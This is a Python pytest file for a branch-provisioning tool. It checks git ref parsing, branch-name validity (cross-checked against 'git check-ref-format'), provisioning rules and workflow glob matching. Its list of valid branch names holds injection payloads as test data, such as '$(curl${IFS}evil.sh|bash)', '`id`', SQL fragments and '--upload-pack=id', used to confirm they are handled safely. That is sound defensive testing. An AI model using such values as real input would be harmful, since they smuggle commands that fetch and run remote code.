"""Branches: exact names in, the right ones provisioned."""

import subprocess
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.branches import branch_of_ref, is_possible_branch
from app.core.identifiers import BranchName
from app.core.patterns import matches_any
from app.core.reasons import is_provisioned

MAIN = BranchName("main")


@pytest.mark.parametrize(
    ("ref", "branch"),
    [
        ("refs/heads/main", "main"),
        ("refs/heads/Main", "Main"),
        ("refs/heads/feature/x", "feature/x"),
        ("refs/heads/refs/heads/main", "refs/heads/main"),
        ("refs/heads/refs/tags/v1", "refs/tags/v1"),
        ("refs/tags/main", None),
        ("refs/notes/commits", None),
        ("refs/pull/5/merge", None),
        ("refs/heads/", None),
        ("refs/heads", None),
        ("heads/main", None),
        ("Refs/heads/main", None),
        ("main", None),
        ("", None),
    ],
)
def test_a_ref_names_a_branch_after_exactly_one_prefix(ref: str, branch: str | None) -> None:
    assert branch_of_ref(ref) == branch


POSSIBLE = [
    "main",
    "HEAD",
    "-",
    "---",
    "-rf",
    "-c",
    "--help",
    "--upload-pack=id",
    "-production",
    "a@b",
    "@/a",
    "a.lockx",
    "$(curl${IFS}evil.sh|bash)",
    "`id`",
    "');--",
    "a'||'b",
    "${{github.token}}",
    "a=b",
    "user@host/db",
    "%2e%2e",
    "{0.__class__}",
    "a\u202eb",
    "a\u200bb",
    "a\u2028b",
    "\ufeffa",
    "日本/語",
]
IMPOSSIBLE = [
    "",
    "a b",
    "a~b",
    "a^b",
    "a:b",
    "a?b",
    "a*b",
    "a[b",
    "a\\b",
    "a..b",
    "a@{b",
    ".a",
    "a/.b",
    "a.",
    "a.lock",
    "a.lock/b",
    "/a",
    "a/",
    "a//b",
    "a\tb",
    "a\nb",
    "a\x7fb",
]


@pytest.mark.parametrize("name", POSSIBLE)
def test_a_strange_branch_that_git_allows_is_possible(name: str) -> None:
    assert is_possible_branch(name)


@pytest.mark.parametrize(
    "name", [*IMPOSSIBLE, "a\x00b", "@", "caf\ufffd", "a\ud800b", "main\n", "x" * 1025]
)
def test_what_git_refuses_or_json_cannot_carry_is_impossible(name: str) -> None:
    assert not is_possible_branch(name)


def test_git_agrees_about_every_name_of_these_tables() -> None:
    answers = {
        name: subprocess.run(
            ["git", "check-ref-format", f"refs/heads/{name}"], check=False
        ).returncode
        == 0
        for name in POSSIBLE + IMPOSSIBLE
    }

    assert answers == {name: is_possible_branch(name) for name in POSSIBLE + IMPOSSIBLE}


@pytest.mark.parametrize(
    ("branch", "provisioned"),
    [
        ("feature/x", True),
        ("Main", True),
        ("production", True),
        ("refs/heads/main", True),
        ("main", False),
        ("gh-readonly-queue/main/pr-5-abc", False),
        ("gh-readonly-queue", True),
        ("dependabot/npm/lodash-4", False),
        ("dependabot", True),
        ("wip-x", False),
        ("wip-x/y", True),
        ("a b", False),
    ],
)
def test_every_branch_but_the_default_the_ignored_and_the_merge_queue_is_provisioned(
    branch: str, provisioned: bool
) -> None:
    patterns = ("dependabot/**", "wip-*")

    answer = is_provisioned(BranchName(branch), default_branch=MAIN, ignore_patterns=patterns)

    assert answer is provisioned


@pytest.mark.parametrize(
    ("pattern", "yes", "no"),
    [
        ("feature", ["feature"], ["Feature", "feature/x", "a-feature"]),
        ("feature/*", ["feature/a", "feature/"], ["feature/a/b", "feature"]),
        ("feature/**", ["feature/a", "feature/a/b"], ["feature"]),
        ("*", ["main", "v2"], ["a/b"]),
        ("**", ["main", "a/b/c"], []),
        ("*feature", ["my-feature", "feature"], ["x/feature", "eature"]),
        ("v[a_c]", ["va", "v_", "vc"], ["vb", "v"]),
        ("ab+?c", ["ac", "abbc"], ["abb"]),
        ("**feature", ["x/feature", "feature"], ["feature-x"]),
        ("v2*", ["v2", "v2.0"], ["v2/0"]),
        ("colou?r", ["color", "colour"], ["colouur"]),
        ("ab+c", ["abc", "abbbc"], ["ac"]),
        ("v[12].[0-9]+.[0-9]+", ["v1.10.1", "v2.0.0"], ["v3.0.0", "v1.1"]),
        ("[ab]?x", ["x", "ax", "bx"], ["cx", "abx"]),
        (r"c\+\+", ["c++"], ["cc", "c"]),
        (r"a\*", ["a*"], ["ab"]),
        ("[a", ["[a"], ["a"]),
        ("[]", ["[]"], [""]),
        ("+a", ["+a"], ["a"]),
        ("a\\", ["a\\"], ["a"]),
        ("", [], ["a"]),
        ("a*?+b", ["ab", "axxb"], ["a/b"]),
        ("[z-a]", [], ["a", "z", "-"]),
    ],
)
def test_a_pattern_means_what_it_means_in_a_workflow(
    pattern: str, yes: list[str], no: list[str]
) -> None:
    assert [name for name in yes + no if matches_any(name, [pattern])] == yes


def test_an_exclamation_mark_takes_back_what_was_selected_before() -> None:
    patterns = ["release/**", "!release/keep", "release/keep/not"]

    assert matches_any("release/old", patterns)
    assert not matches_any("release/keep", patterns)
    assert matches_any("release/keep/not", patterns)
    assert not matches_any("main", ["!release/**"])


@pytest.mark.parametrize(
    "pattern", ["**a" * 50 + "b", "*a?" * 700 + "b", "[\x01-\U0010ffff]" * 40 + "b"]
)
def test_a_hostile_pattern_takes_no_time(pattern: str) -> None:
    begun = time.process_time()

    assert not matches_any("a" * 1000, [pattern])

    assert time.process_time() - begun < 15


@given(st.text(alphabet="ab/-", max_size=20))
def test_a_name_without_signs_matches_itself_alone(name: str) -> None:
    assert matches_any(name, [name])
    assert not matches_any(name + "x", [name])
